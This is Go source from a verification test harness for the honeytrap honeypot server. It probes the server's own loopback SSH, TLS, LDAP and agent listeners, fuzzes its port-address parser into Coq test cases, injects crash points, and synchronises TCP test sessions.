	for _, a := range algs {
		sshAlgs = []string{a}
		v, err := probeSSH(port)
		if err != nil {
			out[a] = nil // advertised but not observable
			continue
		}
		out[a] = v
	}
	sshAlgs = nil
	return out, nil
}

var sshAlgs []string

func probeSSH(port int) ([]byte, error) {
	cc, err := connect(port)
	if err != nil {
		return nil, err
	}
	defer cc.Close()
	var seen []byte
	cfg := &ssh.ClientConfig{User: "root", Auth: []ssh.AuthMethod{ssh.Password("x")},
		HostKeyCallback: func(hostname string, remote net.Addr, key ssh.PublicKey) error {
			seen = key.Marshal()
			return nil
		}, HostKeyAlgorithms: sshAlgs, Timeout: 20 * time.Second}
	conn, _, _, err := ssh.NewClientConn(cc, "honeytrap", cfg)
	if conn != nil {
		conn.Close()
	}
	if seen == nil {
		return nil, fmt.Errorf("no host key seen: %v", err)
	}
	return seen, nil
}

func probeFTP(port int) ([]byte, error) {
	cc, err := connect(port)
	if err != nil {
		return nil, err
	}
	defer cc.Close()
	br := bufio.NewReader(cc)
	if err := readLineWith(br, "220 "); err != nil {
		return nil, err
	}
	fmt.Fprintf(cc, "AUTH TLS\r\n")
	if err := readLineWith(br, "234 "); err != nil {
		return nil, err
	}
	return tlsLeaf(cc)
}

func probeSMTP(port int) ([]byte, error) {
	cc, err := connect(port)
	if err != nil {
		return nil, err
	}
	defer cc.Close()
	br := bufio.NewReader(cc)
	if err := readLineWith(br, "220 "); err != nil {
		return nil, err
	}
	fmt.Fprintf(cc, "EHLO probe.example\r\n")
	if err := readLineWith(br, "250 "); err != nil {
		return nil, err
	}
	fmt.Fprintf(cc, "STARTTLS\r\n")
	if err := readLineWith(br, "220 "); err != nil {
		return nil, err
	}
	return tlsLeaf(cc)
}

var ldapStartTLS = []byte{0x30, 0x1d, 0x02, 0x01, 0x01, 0x77, 0x18, 0x80, 0x16,
	'1', '.', '3', '.', '6', '.', '1', '.', '4', '.', '1', '.', '1', '4', '6', '6', '.', '2', '0', '0', '3', '7'}

func probeLDAP(port int) ([]byte, error) {
	cc, err := connect(port)
	if err != nil {
		return nil, err
	}
	defer cc.Close()
	if _, err := cc.Write(ldapStartTLS); err != nil {
		return nil, err
	}
	hdr := make([]byte, 2)
	if _, err := readFull(cc, hdr); err != nil {
		return nil, err
	}
	if hdr[0] != 0x30 || hdr[1] >= 0x80 {
		return nil, fmt.Errorf("unexpected ldap reply header % x", hdr)
	}
	body := make([]byte, int(hdr[1]))
	if _, err := readFull(cc, body); err != nil {
		return nil, err
	}
	return tlsLeaf(cc)
}

// probeAgent starts the real agent listener (registry entry "agent": its Start runs the
// load-or-generate function KeyPair and listens with the key pair) on a loopback port
// and performs a Noise_NK handshake as an agent would, against the public key the store
// holds afterwards: the handshake completes only if the listener owns the matching
// private key.  Returns that public key.
func probeAgent() ([]byte, error) {
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return nil, err
	}
	addr := ln.Addr().String()
	ln.Close()
	var ac config.Config
	if err := ac.Load(strings.NewReader(fmt.Sprintf("[listener]\ntype=\"agent\"\nlisten=%q\n", addr))); err != nil {
		return nil, err
	}
	fn, ok := listener.Get("agent")
	if !ok {
		return nil, fmt.Errorf("no agent listener registered")
	}
	al, err := fn(listener.WithChannel(theL.bus), listener.WithConfig(ac.Listener, &ac))
	if err != nil {
		return nil, err
	}
	if err := al.Start(context.Background()); err != nil {
		return nil, fmt.Errorf("agent listener start: %v", err)
	}
	ns, err := storage.Namespace("agent")
	if err != nil {
		return nil, err
	}
	key, err := ns.Get("key")
	if err != nil || len(key) != 128 {
		return nil, fmt.Errorf("agent.key not stored after the listener started (%d bytes, %v)", len(key), err)
	}
	pub := make([]byte, 32)
	if _, err := hex.Decode(pub, key[64:]); err != nil {
		return nil, err
	}
	c, err := libdisco.DialWithDialer(&net.Dialer{Timeout: 10 * time.Second}, "tcp", addr,
		&libdisco.Config{HandshakePattern: libdisco.Noise_NK, RemoteKey: pub})
	if err != nil {
		return nil, fmt.Errorf("handshake with the stored public key: %v", err)
	}
	c.Close()
	return pub, nil
}

func readFull(c net.Conn, b []byte) (int, error) {
	n := 0
	for n < len(b) {
		k, err := c.Read(b[n:])
		n += k
		if err != nil {
			return n, err
		}
	}
	return n, nil
}

// dumpKV reads the eight identity items through the public storage API and judges them
// with the real libraries.
func dumpKV() map[string]ItemObs {
	out := map[string]ItemObs{}
	raw := map[string][]byte{}
	for _, it := range kvItems {
		ns, err := storage.Namespace(it.NS)
		if err != nil {
			continue
		}
		v, err := ns.Get(it.Key)
		if err != nil {
			out[it.Name] = ItemObs{}
			continue
		}
		raw[it.Name] = v
		out[it.Name] = ItemObs{Present: true, Digest: dig(v), Len: len(v)}
	}
	for _, it := range kvItems {
		v, ok := raw[it.Name]
		if !ok {
			continue
		}
		o := out[it.Name]
		switch {
		case it.Name == "ssh.private-key":
			if priv, err := x509.ParsePKCS1PrivateKey(v); err == nil && priv.Validate() == nil {
				if pk, err := ssh.NewPublicKey(&priv.PublicKey); err == nil {
					o.WF, o.Pub = true, dig(pk.Marshal())
				}
			}
		case it.Key == "pemkey":
			if blk, _ := pem.Decode(v); blk != nil && blk.Type == "RSA PRIVATE KEY" {
				if priv, err := x509.ParsePKCS1PrivateKey(blk.Bytes); err == nil && priv.Validate() == nil {
					o.WF, o.Pub = true, dig(x509.MarshalPKCS1PublicKey(&priv.PublicKey))
				}
			}
		case it.Key == "pemcert":
			if blk, _ := pem.Decode(v); blk != nil {
				o.Pub = dig(blk.Bytes)
			}
			if key, ok := raw[it.NS+".pemkey"]; ok {
				if _, err := tls.X509KeyPair(v, key); err == nil {
					o.WF = true
				}
			}
		case it.Name == "agent.key":
			if len(v) == 128 {
				pub := make([]byte, 32)
				priv := make([]byte, 32)
				_, e1 := hex.Decode(priv, v[:64])
				_, e2 := hex.Decode(pub, v[64:])
				if e1 == nil && e2 == nil {
					o.WF, o.Pub = true, dig(pub)
				}
			}
		}
		out[it.Name] = o
	}
	return out
}

// itemsOf: the identity items the given service instances (and the agent listener) create, in kvItems order.
func itemsOf(svcs []string) []int {
	ns := map[string]bool{}
	for _, s := range svcs {
		if s == "agent" {
			ns["agent"] = true
		} else if d, ok := svcDefs[s]; ok {
			ns[d.Probe] = true
		}
	}
	var out []int
	for i, it := range kvItems {
		if ns[it.NS] {
			out = append(out, i)
		}
	}
	return out
}

// watchItems: a crash point at storage granularity without any hook in the server.  Polls the store the server
// writes to - read-only View transactions through storage.Namespace(..).Get (the process's one DB handle) - for how
// many of the identity items are stored, and kills the process (SIGKILL) the moment that number reaches n.
// Two back-to-back Sets are only microseconds apart once the first is visible to a View, but every Set is one
// synchronous write (O_DSYNC) to badger's value log that takes hundreds of microseconds: on a fresh directory the
// watcher therefore also counts how often the value log has grown (one write per Set transaction; a record that is
// in the file is replayed by the next Open) and kills as soon as the n-th record is there - while the Set is still
// waiting for the disk.  What the kill really left is read back by the dump child.  The loop does not sleep once
// the store is open; before that it sleeps 50 us.
func watchItems(n int, svcs []string, dataDir string) {
	runtime.LockOSThread()
	// on a busy machine a spinning thread is descheduled for milliseconds at a time, longer than a Set takes:
	// the watcher's thread asks for the highest nice level (the harness runs as root; refused: goes on as it is)
	syscall.Setpriority(syscall.PRIO_PROCESS, syscall.Gettid(), -20)
	die := func() {
		syscall.Kill(os.Getpid(), syscall.SIGKILL)
		select {}
	}
	// 0 absent, 1 present, -1 the store is not open yet (storage.Namespace hands out a nil handle: Get panics)
	probe := func(i int) (st int) {
		defer func() {
			if recover() != nil {
				st = -1
			}
		}()
		ns, err := storage.Namespace(kvItems[i].NS)
		if err != nil {
			return -1
		}
		if _, err = ns.Get(kvItems[i].Key); err != nil {
			return 0
		}
		return 1
	}
	vlog := filepath.Join(dataDir, "badger.db", "000000.vlog")
	var st syscall.Stat_t
	fresh := syscall.Stat(vlog, &st) != nil // no value log yet: every record it gets is a Set of this start
	var size int64
	todo := itemsOf(svcs)
	count, records := 0, 0
	for {
		if fresh && syscall.Stat(vlog, &st) == nil && st.Size > size {
			// while a write is copied in the size moves on page by page: a size on a page boundary is taken for a
			// record in the making until it has moved on (or has not for 500 us)
			size = st.Size
			for t := time.Now(); size%4096 == 0 && time.Since(t) < 500*time.Microsecond; {
				if syscall.Stat(vlog, &st) == nil && st.Size != size {
					size, t = st.Size, time.Now()
				}
			}
			if records++; records >= n {
				die()
			}
		}
		open := true
		for k := 0; k < len(todo) && open; k++ {
			switch probe(todo[k]) {
			case 1:
				if count++; count >= n {
					die()
				}
				todo = append(todo[:k], todo[k+1:]...)
				k--
			case -1:
				open = false
			}
		}
		if len(todo) == 0 {
			return
		}
		if !open {
			time.Sleep(50 * time.Microsecond)
		}
	}
}

func readOpt(p string) *hx.B {
	b, err := os.ReadFile(p)
	if err != nil {
		return nil
	}
	x := hx.B(b)
	return &x
}

func dumpFiles(ob *ChildObs, dir string) {
	ob.TokenFile = readOpt(filepath.Join(dir, "token"))
	ents, _ := os.ReadDir(dir)
	for _, e := range ents {
		n := e.Name()
		if n == "token" || n == "badger.db" || e.IsDir() {
			continue
		}
		if ob.TmpFiles == nil {
			ob.TmpFiles = map[string]hx.B{}
		}
		b, _ := os.ReadFile(filepath.Join(dir, n))
		ob.TmpFiles[n] = b
	}
}

func writeObs(job Job, ob *ChildObs) {
	b, _ := json.Marshal(ob)
	tmp := job.Out + ".part"
	if err := os.WriteFile(tmp, b, 0o644); err != nil {
		os.Exit(4)
	}
	os.Rename(tmp, job.Out)
}

func childMain(jobPath string) {
	var job Job
	b, err := os.ReadFile(jobPath)
	if err != nil {
		os.Exit(4)
	}
	if err := json.Unmarshal(b, &job); err != nil {
		os.Exit(4)
	}
	ob := &ChildObs{KV: map[string]ItemObs{}, Seen: map[string]map[string]hx.B{}}
	switch job.Mode {
	case "seed":
		storage.SetDataDir(job.DataDir)
		for name, v := range job.Seed {
			i := strings.IndexByte(name, '.')
			ns, _ := storage.Namespace(name[:i])
			if err := ns.Set(name[i+1:], v); err != nil {
				ob.Errs = append(ob.Errs, "seed: "+err.Error())
			}
		}
		ob.KV = dumpKV()
		dumpFiles(ob, job.DataDir)
		writeObs(job, ob)
		os.Exit(0)
	case "dump":
		storage.SetDataDir(job.DataDir)
		ob.KV = dumpKV()
		dumpFiles(ob, job.DataDir)
		writeObs(job, ob)
		os.Exit(0)
	}

	// ---- one start ----
	config.Default = config.Config{}
	tp := jobPath + ".toml"
	if err := os.WriteFile(tp, []byte(childToml(job.Services, job.OpKey, job.Wiring)), 0o644); err != nil {
		os.Exit(4)
	}
	optC, err := server.WithConfig(tp)
	if err != nil {
		os.Exit(4)
	}
	if job.Ready != "" {
		os.WriteFile(job.Ready, []byte("x"), 0o644)
	}
	if job.KillItems > 0 {
		go watchItems(job.KillItems, job.Services, job.DataDir)
	}
	if job.Cwd != "" {
		if err := os.Chdir(job.Cwd); err != nil {
			os.Exit(4)
		}
	}
	spell := job.Spell
	if spell == "" {
		spell = job.DataDir
	}
	if job.RealCmd {
		// cmd/honeytrap serve: flags -c / -d, option list and order as the shipped binary has them
		ended := make(chan error, 1)
		go func() { ended <- honeytrapcmd.New().Run([]string{"honeytrap", "-c", tp, "-d", spell}) }()
		go func() {
			err := <-ended
			select {
			case <-theL.started:
			default:
				ob.NewErr = fmt.Sprintf("command returned before the listener started: %v", err)
				dumpFiles(ob, job.DataDir)
				writeObs(job, ob)
				os.Exit(0)
			}
		}()
	} else {
		optD, err := server.WithDataDir(spell)
		if err != nil {
			ob.NewErr = "datadir: " + err.Error()
			writeObs(job, ob)
			os.Exit(0)
		}
		srv, err := server.New(optC, optD, server.WithToken())
		if err != nil {
			ob.NewErr = err.Error()
			dumpFiles(ob, job.DataDir)
			writeObs(job, ob)
			os.Exit(0)
		}
		go srv.Run(context.Background())
	}
	select {
	case <-theL.started:
		ob.Started = true
	case <-time.After(120 * time.Second):
		ob.Errs = append(ob.Errs, "listener not started within 120 s")
		writeObs(job, ob)
		os.Exit(0)
	}
	enabled := map[string]bool{}
	for _, s := range job.Services {
		enabled[s] = true
	}
	note := func(item string, vs map[string][]byte, err error) {
		if err != nil {
			ob.Errs = append(ob.Errs, item+": "+err.Error())
			return
		}
		ob.Seen[item] = map[string]hx.B{}
		for alg, v := range vs {
			if v == nil {
				ob.Seen[item][alg] = hx.B{}
				ob.Errs = append(ob.Errs, item+": advertises "+alg+" but no handshake restricted to it succeeds")
				continue
			}
			ob.Seen[item][alg] = dig(v)
		}
	}
	for _, name := range job.Services {
		d, ok := svcDefs[name]
		if !ok {
			continue
		}
		var vs map[string][]byte
		var err error
		switch d.Probe {
		case "ssh":
			vs, err = probeSSHAll(d.Port)
		case "ftp":
			vs, err = probeTLSAll(probeFTP, d.Port)
		case "smtp":
			vs, err = probeTLSAll(probeSMTP, d.Port)
		case "ldap":
			vs, err = probeTLSAll(probeLDAP, d.Port)
		}
		note(name, vs, err)
	}
	if enabled["agent"] {
		v, err := probeAgent()
		note("agent", map[string][]byte{"agent": v}, err)
	}
	// probe events sent on the bus the listener was given (EventBus.Send is synchronous):
	// one per probe category, then the one whose arrival on "all" gives the token in use
	for _, cat := range probeCats {
		theL.bus.Send(event.New(event.Sensor("c18"), event.Category(cat)))
	}
	theL.bus.Send(event.New(event.Sensor("c18"), event.Category("c18-probe")))
	time.Sleep(20 * time.Millisecond)
	capMu.Lock()
	vals := map[string]bool{}
	gotProbe := false
	ob.Deliv = map[string][]Arrival{}
	for _, cat := range probeCats {
		ob.Deliv[cat] = []Arrival{}
	}
	for _, a := range arrivals {
		if a.Chan == "all" {
			if !a.Has {
				vals["<none>"] = true
			} else {
				vals[string(a.Token)] = true
			}
			if a.Cat == "c18-probe" {
				ob.Token, gotProbe = a.Token, true
			}
			continue
		}
		if _, ok := ob.Deliv[a.Cat]; ok {
			ob.Deliv[a.Cat] = append(ob.Deliv[a.Cat], a)
		}
	}
	capMu.Unlock()
	if !gotProbe {
		ob.Errs = append(ob.Errs, "the probe event did not reach the catch-all channel")
	}
	ob.TokenSeen = len(vals)
	ob.KV = dumpKV()
	dumpFiles(ob, job.DataDir)
	writeObs(job, ob)
	if job.Hold {
		for { // keeps the store open until the parent kills the process
			time.Sleep(time.Hour)
		}
	}
	os.Exit(0)
}
