// C19 harness: server.ToAddr on generated strings; the port-entry loop of Run on
// generated configurations with a recording listener and detector stubs.
package main

import (
	"fmt"
	"net"
	"os"
	"strings"

	"github.com/honeytrap/honeytrap/server"
	"verif/harness/hx"
	"verif/harness/lab"
)

type AddrObs struct {
	Proto string `json:"proto"`
	IP    hx.B   `json:"ip,omitempty"` // 16-byte form; empty = nil IP
	Port  int    `json:"port"`
}

func obsAddr(a net.Addr) *AddrObs {
	switch x := a.(type) {
	case *net.TCPAddr:
		if x == nil {
			return nil
		}
		return &AddrObs{Proto: "tcp", IP: hx.B(x.IP.To16()), Port: x.Port}
	case *net.UDPAddr:
		if x == nil {
			return nil
		}
		return &AddrObs{Proto: "udp", IP: hx.B(x.IP.To16()), Port: x.Port}
	}
	return nil
}

func coqAddr(a *AddrObs) string {
	p := "TCP"
	if a.Proto == "udp" {
		p = "UDP"
	}
	ip := "(@None bytes)"
	if len(a.IP) > 0 {
		ip = "(Some " + hx.CoqBytes(a.IP) + ")"
	}
	return fmt.Sprintf("(mkAddr %s %s %s)", p, ip, hx.CoqZ(int64(a.Port)))
}

var hosts = []string{"127.0.0.1", "10.0.0.1", "0.0.0.0", "::1", "::", "2001:db8::5", "192.168.1.255"}

// host NAMES in port addresses: what they resolve to is a library oracle (the resolver's answer
// for the name, asked by the harness itself); names the environment cannot resolve are left out
var nameHosts = map[string]net.IP{}

func init() {
	for _, n := range []string{"localhost"} {
		if a, err := net.ResolveTCPAddr("tcp", n+":1"); err == nil && a.IP != nil {
			nameHosts[n] = a.IP
			hosts = append(hosts, n)
			portPool = append(portPool, "tcp/"+n+":80", "udp/"+n+":53", "tcp/"+n+":81")
		}
	}
}

func coqResolve() string {
	var es []string
	for _, h := range hosts {
		ip := net.ParseIP(h)
		if ip == nil {
			ip = nameHosts[h]
		}
		es = append(es, fmt.Sprintf("(%s, Some %s)", hx.CoqStr(h), hx.CoqBytes(ip.To16())))
	}
	return hx.CoqList(es, "(str * option bytes)")
}

func genPortString(r *hx.Rand) string {
	protos := []string{"tcp", "udp", "tcp", "udp", "", "icmp", "TCP", "tcp ", "sctp", "ud"}
	ports := []string{"0", "1", "22", "80", "443", "8080", "65535", "65536", "65537", "99999", "100000", "4294967296",
		"18446744073709551616", "-1", "+80", "080", "00000000000000000080", "8_0", "", " 80", "80 ", "0x50", "8o", "１２"}
	p := protos[r.Intn(len(protos))]
	port := ports[r.Intn(len(ports))]
	if r.Chance(1, 3) {
		port = fmt.Sprint(r.Intn(70000))
	}
	var hp string
	switch r.Intn(12) {
	case 0, 1, 2, 3:
		hp = port
	case 4:
		hp = ":" + port
	case 5, 6:
		h := hosts[r.Intn(len(hosts))]
		if strings.Contains(h, ":") {
			hp = "[" + h + "]:" + port
		} else {
			hp = h + ":" + port
		}
	case 7:
		hp = "[" + hosts[3+r.Intn(3)] + "]" + port // missing colon
	case 8:
		hp = hosts[3+r.Intn(3)] + ":" + port // unbracketed v6: too many colons
	case 9:
		hp = "[" + hosts[r.Intn(len(hosts))] + ":" + port // missing ]
	case 10:
		hp = hosts[r.Intn(3)] + ":" + port + ":" + port
	default:
		hp = "[" + hosts[r.Intn(len(hosts))] + "]:" + port
	}
	switch r.Intn(14) {
	case 0:
		return p + hp // missing slash
	case 1:
		return p + "/" + hp + "/" + port
	case 2:
		return p + "//" + hp
	}
	return p + "/" + hp
}

type Entry struct {
	Ports    []string `json:"ports"`
	HasPorts bool     `json:"has_ports"`
	Port     string   `json:"port"`
	Services []string `json:"services"`
}

type RunInput struct {
	Defined []string `json:"defined"`
	Cfg     []Entry  `json:"cfg"`
}

type ProbeObs struct {
	Local   *AddrObs `json:"local"`
	Reached []string `json:"reached"`
}

type RunObs struct {
	Added  []*AddrObs `json:"added"`
	Probes []ProbeObs `json:"probes"`
}

var svcNames = []string{"s1", "s2", "s3"}
var svcPrefix = map[string]string{"s1": "AAA", "s2": "BBB", "s3": "CCC"}

var portPool = []string{"tcp/80", "tcp/:80", "udp/80", "tcp/127.0.0.1:80", "tcp/10.0.0.1:80", "tcp/[::1]:80", "tcp/81",
	"tcp/65535", "tcp/65536", "tcp80", "icmp/80", "tcp/-1", "tcp/", "udp/53", "tcp/0", "udp/127.0.0.1:53", "udp/[::1]:53",
	"tcp/0.0.0.0:80", "udp/65535", "tcp/080", "/80", "tcp/80/tcp"}

func genRun(r *hx.Rand) RunInput {
	in := RunInput{}
	nd := r.Range(1, 3)
	in.Defined = append(in.Defined, svcNames[:nd]...)
	ne := r.Range(1, 4)
	for i := 0; i < ne; i++ {
		var e Entry
		if r.Chance(2, 3) {
			e.HasPorts = true
			for j, n := 0, r.Range(0, 3); j < n; j++ {
				e.Ports = append(e.Ports, pick(r))
			}
		}
		if r.Chance(1, 2) {
			e.Port = pick(r)
		}
		names := []string{"s1", "s2", "s3", "s1", "s2", "sx", "s1"}
		for j, n := 0, r.Range(0, 4); j < n; j++ {
			e.Services = append(e.Services, names[r.Intn(len(names))])
		}
		in.Cfg = append(in.Cfg, e)
	}
	return in
}

func pick(r *hx.Rand) string {
	if r.Chance(1, 10) {
		return genPortString(r)
	}
	// bias towards a few colliding ports
	return portPool[r.Intn(len(portPool))]
}

func tomlStr(s string) string {
	s = strings.ReplaceAll(s, `\`, `\\`)
	s = strings.ReplaceAll(s, `"`, `\"`)
	return `"` + s + `"`
}

func tomlList(xs []string) string {
	var q []string
	for _, x := range xs {
		q = append(q, tomlStr(x))
	}
	return "[" + strings.Join(q, ", ") + "]"
}

func mkToml(in RunInput) string {
	var sb strings.Builder
	sb.WriteString("[listener]\ntype=\"verif-rec\"\n\n")
	for _, s := range in.Defined {
		fmt.Fprintf(&sb, "[service.%s]\ntype=\"verif-stub-det\"\nname=%s\nprefix=%s\n\n", s, tomlStr(s), tomlStr(svcPrefix[s]))
	}
	for _, e := range in.Cfg {
		sb.WriteString("[[port]]\n")
		if e.HasPorts {
			fmt.Fprintf(&sb, "ports=%s\n", tomlList(e.Ports))
		}
		if e.Port != "" {
			fmt.Fprintf(&sb, "port=%s\n", tomlStr(e.Port))
		}
		fmt.Fprintf(&sb, "services=%s\n\n", tomlList(e.Services))
	}
	return sb.String()
}

func runOne(in RunInput, scratch string) (RunObs, string) {
	var ob RunObs
	l, err := lab.Start(mkToml(in), scratch)
	if err != nil {
		hx.Fatal("lab start: %v", err)
	}
	defer l.Stop()
	if !l.Started() {
		return ob, "server returned before starting the listener"
	}
	added, _ := l.Snapshot()
	for _, a := range added {
		ao := obsAddr(a)
		if ao == nil {
			return ob, "AddAddress called with a nil / unknown address"
		}
		ob.Added = append(ob.Added, ao)
		// probe connections: the entry's own concrete address, the same port on a foreign
		// address (matches only entries without an address), and a port nobody configured
		own := net.IP(ao.IP)
		if len(ao.IP) == 0 {
			own = net.ParseIP("192.0.2.1")
		}
		locals := []*AddrObs{
			{Proto: ao.Proto, IP: hx.B(own.To16()), Port: ao.Port},
			{Proto: ao.Proto, IP: hx.B(net.ParseIP("198.18.0.9").To16()), Port: ao.Port},
			{Proto: ao.Proto, IP: hx.B(own.To16()), Port: 9},
		}
		for _, lo := range locals {
			reached := map[string]bool{}
			for _, s := range svcNames {
				before := len(l.Handled)
				payload := []byte(svcPrefix[s] + "x")
				var perr error
				if lo.Proto == "tcp" {
					perr = l.Probe(&net.TCPAddr{IP: net.IP(lo.IP), Port: lo.Port}, &net.TCPAddr{IP: net.ParseIP("198.51.100.7"), Port: 40000}, [][]byte{payload})
				} else {
					perr = l.ProbeUDP(&net.UDPAddr{IP: net.IP(lo.IP), Port: lo.Port}, &net.UDPAddr{IP: net.ParseIP("198.51.100.7"), Port: 40000}, payload, nil)
				}
				if perr != nil {
					return ob, "probe: " + perr.Error()
				}
				_, handled := l.Snapshot()
				for _, h := range handled[before:] {
					reached[h.Service] = true
				}
			}
			var rs []string
			for _, s := range svcNames {
				if reached[s] {
					rs = append(rs, s)
				}
			}
			ob.Probes = append(ob.Probes, ProbeObs{Local: lo, Reached: rs})
		}
	}
	return ob, ""
}

func coqStrs(xs []string) string {
	var es []string
	for _, x := range xs {
		es = append(es, hx.CoqStr(x))
	}
	return hx.CoqList(es, "str")
}

func main() {
	o := hx.ParseArgs()
	r := hx.NewRand(o.Seed)
	dist := map[string]int{}
	var cases []hx.Case
	id := 0
	res := coqResolve()

	type replayIn struct {
		Str *string   `json:"str"`
		Run *RunInput `json:"run"`
	}
	var strs []string
	var runs []RunInput
	if o.Only != "" {
		var ri replayIn
		if err := hx.LoadReplay(o.Only, &ri); err != nil {
			panic(err)
		}
		if ri.Str != nil {
			strs = []string{*ri.Str}
		}
		if ri.Run != nil {
			runs = []RunInput{*ri.Run}
		}
	} else {
		strs = append(strs, "tcp/8080", "udp/60000", "tcp:8080", "tcp/65536", "foo/80", "tcp/127.0.0.1:22", "udp/[::1]:53", "tcp/65535", "udp/0")
		strs = append(strs, portPool...)
		n := 500
		if o.Tier != "quick" {
			n = 5000
		}
		for i := 0; i < n; i++ {
			strs = append(strs, genPortString(r))
		}
		// the parser itself over port numbers: boundary set in quick, all 65,536 in thorough
		if o.Tier == "thorough" {
			for p := 0; p < 65536; p++ {
				strs = append(strs, fmt.Sprintf("%s/%d", []string{"tcp", "udp"}[p&1], p))
			}
		} else {
			for _, p := range []int{0, 1, 9, 10, 99, 100, 999, 1000, 9999, 10000, 32767, 32768, 65534, 65535} {
				strs = append(strs, fmt.Sprintf("tcp/%d", p), fmt.Sprintf("udp/127.0.0.1:%d", p))
			}
		}
		nr := 120
		if o.Tier != "quick" {
			nr = 1500
		}
		// every ORDERED pair of host spellings for one port, per protocol: which of two entries for
		// the same port wins must not depend on chance draws (first wins; a wildcard and a specific
		// host are compatible in either order)
		forms := []string{"80", ":80", "127.0.0.1:80", "10.0.0.1:80", "[::1]:80", "0.0.0.0:80"}
		for _, proto := range []string{"tcp", "udp"} {
			for _, a := range forms {
				for _, b := range forms {
					runs = append(runs, RunInput{Defined: []string{"s1", "s2"}, Cfg: []Entry{
						{Port: proto + "/" + a, Services: []string{"s1"}},
						{Port: proto + "/" + b, Services: []string{"s2"}},
					}})
				}
			}
		}
		for i := 0; i < nr; i++ {
			runs = append(runs, genRun(r))
		}
	}
	for _, s := range strs {
		a, proto, port, err := server.ToAddr(s)
		var ao *AddrObs
		crash := ""
		if err == nil {
			ao = obsAddr(a)
			if ao == nil {
				crash = "ToAddr returned no error and no usable address"
			} else if proto != ao.Proto || port != ao.Port {
				crash = fmt.Sprintf("ToAddr return values disagree: addr=%v proto=%q port=%d", a, proto, port)
			}
		}
		obs := "(@None addr)"
		if ao != nil {
			obs = "(Some " + coqAddr(ao) + ")"
			dist["toaddr:accepted"]++
		} else {
			dist["toaddr:rejected"]++
		}
		ss := s
		cases = append(cases, hx.Case{ID: id, Kind: "toaddr", Input: map[string]interface{}{"str": ss}, Obs: ao, Crash: crash,
			Coq: fmt.Sprintf("CA (mkACase %s %s %s %s)", hx.CoqN(uint64(id)), hx.CoqStr(s), "RES", obs)})
		id++
	}
	scratch := o.Out
	for _, in := range runs {
		ob, crash := runOne(in, scratch)
		var es []string
		for _, e := range in.Cfg {
			es = append(es, fmt.Sprintf("(mkEntry %s %s %s)", coqStrs(e.Ports), hx.CoqStr(e.Port), coqStrs(e.Services)))
		}
		var as []string
		for _, a := range ob.Added {
			as = append(as, coqAddr(a))
		}
		var rs []string
		for _, x := range ob.Probes {
			rs = append(rs, fmt.Sprintf("(%s, %s)", coqAddr(x.Local), coqStrs(x.Reached)))
		}
		dist[fmt.Sprintf("run:listened=%d", len(ob.Added))]++
		dist[fmt.Sprintf("run:entries=%d", len(in.Cfg))]++
		in2 := in
		cases = append(cases, hx.Case{ID: id, Kind: "run", Input: map[string]interface{}{"run": in2}, Obs: ob, Crash: crash,
			Coq: fmt.Sprintf("CR (mkRCase %s %s %s RES %s %s)", hx.CoqN(uint64(id)), coqStrs(in.Defined), hx.CoqList(es, "entry"),
				hx.CoqList(as, "addr"), hx.CoqList(rs, "(addr * list str)"))})
		id++
	}
	header := "From HT Require Import Common.Bytes C19.Model C19.Check.\nDefinition RES : rtable := " + res + "."
	hx.Write(o, "C19", "ports", header, "case", cases, dist, nil, 400)
	_ = os.Stdout
}
