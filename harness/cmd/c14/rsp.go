// C14 harness, part "rsp": full sessions on the decoded ports, in particular the two
// whose decoder WRITES to the connection (80: DecodeHTTP, 9200: DecodeElasticsearch).
// The listener then emits segments that carry payload of its own (longer than 20
// bytes); every emitted frame of the session is recorded, also the ones the decoder
// goroutine sends after handleTCP has returned.
//
// Synchronisation is on conditions only: the decoder goroutine of the connection is
// identified in the runtime's goroutine dump (created by handleTCP, not there before
// the handshake-completing ACK) and the harness injects the next segment / drains
// the transmit ring only when that goroutine is parked in Socket.Read or has ended.
package main

import (
	"bufio"
	"bytes"
	"fmt"
	"io"
	"net"
	"net/http"
	"regexp"
	"runtime"
	"strconv"
	"strings"
	"time"

	"github.com/honeytrap/honeytrap/event"
	"github.com/honeytrap/honeytrap/listener/canary"
	"verif/harness/hx"
)

// RspIn is one scripted session.
type RspIn struct {
	SIP   [4]byte `json:"sip"`
	SPort int     `json:"sport"`
	DPort int     `json:"dport"`
	ISN   uint32  `json:"isn"`
	Segs  []hx.B  `json:"segs"` // the client's stream, cut into in-order segments
	Push  []bool  `json:"push"` // PSH per segment (the last one is always pushed)
	Tail  hx.B    `json:"tail"` // sent after the listener has answered and closed (FIN-WAIT): still acknowledged
	// how the client ends: 0 = ACK of the listener's FIN, then FIN|ACK; 1 = FIN|ACK that
	// does not acknowledge the listener's FIN (crossing); 2 = FIN|ACK acknowledging it at once
	End int `json:"end"`
}

type RspStep struct {
	Seg     Seg     `json:"seg"`
	Fresh   [3]uint `json:"fresh,omitempty"`
	Decoder bool    `json:"decoder"` // the decoder goroutine ran to its end during this step
	Frames  []hx.B  `json:"frames"`
}

type RspObs struct {
	Steps  []RspStep `json:"steps"`
	Reply  hx.B      `json:"reply"` // what the decoder writes for this stream (computed with the real net/http)
	Events int       `json:"events"`
}

// ---- goroutine dump ----
var goroutineHdr = regexp.MustCompile(`^goroutine (\d+) \[([^\]]*)\]:`)

const createdByHandleTCP = "created by github.com/honeytrap/honeytrap/listener/canary.(*Canary).handleTCP"
const inSocketRead = "listener/canary.Socket.Read("

var dumpBuf = make([]byte, 1<<18) // sessions of this part run one after the other

type gstate struct {
	parked bool // waiting in the select of Socket.Read
}

// handlerGoroutines returns the goroutines started by handleTCP (the per-connection
// port handlers) that currently exist.
func handlerGoroutines() map[int]gstate {
	var buf []byte
	for {
		n := runtime.Stack(dumpBuf, true)
		if n < len(dumpBuf) {
			buf = dumpBuf[:n]
			break
		}
		dumpBuf = make([]byte, 2*len(dumpBuf))
	}
	out := map[int]gstate{}
	for _, blk := range strings.Split(string(buf), "\n\n") {
		m := goroutineHdr.FindStringSubmatch(blk)
		if m == nil || !strings.Contains(blk, createdByHandleTCP) {
			continue
		}
		id, _ := strconv.Atoi(m[1])
		out[id] = gstate{parked: strings.HasPrefix(m[2], "select") && strings.Contains(blk, inSocketRead)}
	}
	return out
}

// waitHandler waits until goroutine id is parked in Socket.Read (returns "parked") or
// has ended ("ended"); "timeout" after the deadline.
func waitHandler(id int, d time.Duration) string {
	deadline := time.Now().Add(d)
	for {
		g, ok := handlerGoroutines()[id]
		if !ok {
			return "ended"
		}
		if g.parked {
			return "parked"
		}
		if time.Now().After(deadline) {
			return "timeout"
		}
		runtime.Gosched()
		time.Sleep(50 * time.Microsecond)
	}
}

// ---- oracle: what the decoder of this port writes for this stream ----
